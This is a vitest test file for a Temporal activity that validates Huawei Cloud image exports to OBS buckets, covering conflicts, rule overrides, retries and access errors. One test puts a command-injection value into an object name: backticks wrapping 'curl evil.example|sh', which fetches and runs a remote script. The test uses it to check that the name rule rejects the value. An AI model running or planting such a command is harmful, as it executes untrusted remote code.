import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createExportActivities } from '../../src/activities';
import type { CloudClient } from '../../src/huaweicloud';
import type { FaultRule } from '../../src/testing';
import { type ActivityRig, startActivityRig, temporalSaying } from '../rigs/activity-rig';

let rig: ActivityRig;
beforeAll(async () => {
  rig = await startActivityRig();
});
afterEach(() => {
  rig.simulator.faults.clear();
  rig.simulator.credentials.restore();
});
afterAll(() => rig.close());

const input = (changes: object = {}) => ({
  imageId: rig.simulator.info.images.linux,
  bucketUrl: `${rig.simulator.info.bucket}:free.qcow2`,
  fileFormat: 'qcow2',
  ...changes,
});
const validate = (changes?: object) => rig.run('imsValidateExport', input(changes));
const failure = async (changes?: object) => {
  const error = await validate(changes).catch((thrown: unknown) => thrown);
  expect(error).toBeInstanceOf(ApplicationFailure);
  return error as ApplicationFailure;
};
const fault = (rule: Omit<FaultRule, 'times'>) => rig.simulator.faults.add({ times: 50, ...rule });

describe('validating an export', () => {
  it('records when OBS reported the destination free, by the clock of OBS', async () => {
    const { destinationFreeAt, warnings } = await validate();
    expect(new Date(destinationFreeAt ?? '').toISOString()).toBe(destinationFreeAt);
    expect(warnings).toEqual([]);
  });

  it('fails as DestinationExists with the object when nothing else is wrong', async () => {
    const { etag, size } = rig.simulator.putObject('taken.qcow2', 'somebody else’s');
    const bucketUrl = `${rig.simulator.info.bucket}:taken.qcow2`;
    const { type, nonRetryable, details, message } = await failure({ bucketUrl });
    expect({ type, nonRetryable }).toEqual({ type: 'DestinationExists', nonRetryable: true });
    expect(details).toEqual([
      {
        imageId: rig.simulator.info.images.linux,
        bucketUrl,
        object: { size, etag: etag.replaceAll('"', ''), lastModified: expect.stringMatching(/Z$/) },
      },
    ]);
    expect(message).toContain(`Nothing was submitted: image ${rig.simulator.info.images.linux}`);
    expect(message).toContain('Choose another object key, or delete the object.');
  });

  it('does not report the destination as free when the destinationFree rule is off', async () => {
    rig.simulator.putObject('taken.qcow2', 'somebody else’s');
    const { destinationFreeAt, warnings } = await validate({
      bucketUrl: `${rig.simulator.info.bucket}:taken.qcow2`,
      options: { rules: { destinationFree: 'warn' } },
    });
    expect({ destinationFreeAt, warnings }).toEqual({
      destinationFreeAt: null,
      warnings: [expect.stringMatching(/^Rule destinationFree: .+Found .*bytes\)?, last modified .+Z\.$/)],
    });
  });

  it('reports image, bucket, every problem and its fix in one message', async () => {
    const { type, message } = await failure({ imageId: rig.simulator.info.images.large });
    expect(type).toBe('ExportNotAllowed');
    expect(message).toContain(`image ${rig.simulator.info.images.large} ("warehouse-200g") cannot be exported to`);
    expect(message).toContain('this image has 200 GiB. Set isQuickExport and leave fileFormat out.');
    expect(message).toContain('[conversionSizeLimit: __image_size=214748364800]');
    expect(message).toContain('options.rules');
  });

  it('does not offer to turn off destinationFree beside another rule that can be turned off', async () => {
    const bucketUrl = `${rig.simulator.info.bucket}:taken.qcow2`;
    const { type, message } = await failure({ imageId: rig.simulator.info.images.large, bucketUrl });
    expect(type).toBe('ExportNotAllowed');
    expect(message).toMatch(/conversionSizeLimit.*destinationFree/);
    expect(message).not.toContain('options.rules');
  });

  it('ends where an image that is not there and an object of no known export are each read again', async () => {
    const bucketUrl = `${rig.simulator.info.bucket}:taken.qcow2`;
    const { type, message } = await failure({ imageId: '00000000-0000-0000-0000-000000000000', bucketUrl });
    expect(type).toBe('ExportNotAllowed');
    expect(message).toMatch(/imageExists.*destinationFree/);
  });

  it('does not offer to turn off imageExists', async () => {
    const { message } = await failure({ imageId: '00000000-0000-0000-0000-000000000000' });
    expect(message).toContain('imageExists');
    expect(message).not.toContain('options.rules');
  });

  it('continues without an image that is not shown when imageExists is turned off', async () => {
    const { warnings } = await validate({
      imageId: '00000000-0000-0000-0000-000000000000',
      options: { rules: { imageExists: 'warn' } },
    });
    expect(warnings[0]).toMatch(/^Rule imageExists: The image is not in region cn-north-4/);
    expect(warnings[1]).toMatch(/^Rules .+ were not checked: the image was not found\.$/);
  });

  it('fails as AccessDenied when the image may not be read', async () => {
    rig.simulator.credentials.revoke('permissions');
    const { type, nonRetryable, message } = await failure();
    expect({ type, nonRetryable }).toEqual({ type: 'AccessDenied', nonRetryable: true });
    expect(message).toMatch(/^Nothing was submitted: account default .+ ListImages/);
  });

  it.each([
    ['the image', { service: 'ims', method: 'GET' }],
    ['the bucket and the destination', { service: 'obs', method: 'HEAD' }],
  ] as const)('fails so that Temporal retries it while %s cannot be read', async (_, what) => {
    fault({ ...what, action: { status: 503, headers: { 'Retry-After': '7' } } });
    const { type, nonRetryable, nextRetryDelay } = await failure();
    expect({ type, nonRetryable }).toEqual({ type: 'CloudUnavailable', nonRetryable: false });
    // As long as the cloud asked for, and not at the same moment as everybody else.
    expect(nextRetryDelay).toBeGreaterThanOrEqual(7_000);
    expect(nextRetryDelay).toBeLessThanOrEqual(7_000 * 1.15);
  });

  it.each([
    ['is tried again while the cloud is away for less than a quarter of an hour', 890_000, 'CloudUnavailable'],
    ['ends when the cloud has been away for a quarter of an hour', 900_001, 'SubmitRejected'],
  ])('%s', async (_, awayMs, type) => {
    fault({ service: 'ims', method: 'GET', action: { status: 503 } });
    const info = { scheduledTimestampMs: 1_000, currentAttemptScheduledTimestampMs: 1_000 + awayMs };
    const { outcome } = await rig.runAs(info, 'imsValidateExport', input());
    expect(outcome).toMatchObject({ type, nonRetryable: type === 'SubmitRejected' });
  });

  it.each([
    ['is tried again for less than a quarter of an hour', 890_000, { name: 'TypeError' }],
    ['ends the export after a quarter of an hour', 900_000, { type: 'SubmitRejected', nonRetryable: true }],
  ])('a bug of ours %s', async (_, awayMs, expected) => {
    const info = { scheduledTimestampMs: 1_000, currentAttemptScheduledTimestampMs: 1_000 + awayMs };
    const broken = new Map([['default', { region: 'region', client: {} as CloudClient }]]);
    const { imsValidateExport } = createExportActivities({ accounts: broken });
    const environment = new MockActivityEnvironment(
      { scheduleToCloseTimeoutMs: 7_200_000, ...info },
      { client: temporalSaying(false) },
    );
    const outcome = await environment.run(imsValidateExport, input()).catch((error: unknown) => error);
    expect(outcome).toMatchObject({ message: expect.stringContaining('getImage'), ...expected });
  });

  it('fails as AccessDenied when two readings in a row are refused, by different codes', async () => {
    const refused = (status: number, error_code: string) => ({ status, body: { error_code, error_msg: 'no' } });
    const list = { service: 'ims', method: 'GET', path: '*/cloudimages' } as const;
    rig.simulator.faults.add({ ...list, nth: 1, action: refused(401, 'APIGW.0301') });
    rig.simulator.faults.add({ ...list, nth: 2, action: refused(403, 'APIGW.0302') });
    const { outcome, heartbeats } = await rig.runAs({}, 'imsValidateExport', input());
    expect(outcome).toMatchObject({ type: 'AccessDenied', message: expect.stringContaining('APIGW.0302') });
    expect(heartbeats).toHaveLength(1);
  });

  it('is tried again, and not refused, while a captive portal answers 401', async () => {
    fault({ service: 'ims', method: 'GET', action: { status: 401, body: '<html>Please sign in</html>' } });
    for (const attempt of [1, 2, 3]) {
      const { outcome } = await rig.runAs({ attempt }, 'imsValidateExport', input());
      expect(outcome).toMatchObject({ type: 'CloudUnavailable', nonRetryable: false });
    }
  });

  it('rejects the reserved option expectNotification', async () => {
    const { type, message } = await failure({ options: { expectNotification: true } });
    expect(type).toBe('InvalidExportRequest');
    expect(message).toContain('options.expectNotification');
  });

  it('checks no image rule when the export attaches to a job', async () => {
    const { request, destinationFreeAt } = await validate({
      imageId: rig.simulator.info.images.fullEcs,
      attach: { jobId: 'a'.repeat(32) },
    });
    expect(request).toMatchObject({ attach: { jobId: 'a'.repeat(32) } });
    expect(destinationFreeAt).toBeNull();
  });

  it('asks the rules on the name of the object when the export attaches to a job', async () => {
    const attach = { jobId: 'a'.repeat(32) };
    const { bucket } = rig.simulator.info;
    const bucketUrl = `${bucket}:a.qcow2\`;curl evil.example|sh;#\``;
    const { type, details } = await failure({ attach, bucketUrl });
    expect(type).toBe('ExportNotAllowed');
    expect(details?.[0]).toMatchObject({ rule: 'objectName', overridable: ['objectName'] });
    const off = await validate({ attach, bucketUrl, options: { rules: { objectName: 'off' } } });
    expect(off.request).toMatchObject({ bucketUrl });
    const { warnings } = await validate({ attach, bucketUrl: `${bucket}:a//b.qcow2` });
    expect(warnings).toEqual([expect.stringContaining('folderNames')]);
  });

  it.each([
    ['onAmbiguousSubmit', 'ask'],
    ['maxProbes', 3],
    ['acceptUnconfirmed', true],
    ['whenImageBusy', 'fail'],
    ['onCancel', 'drain'],
  ])('accepts the option %s', async (option, value) => {
    const { request } = await validate({ options: { [option]: value } });
    expect(request.options).toMatchObject({ [option]: value });
  });
});
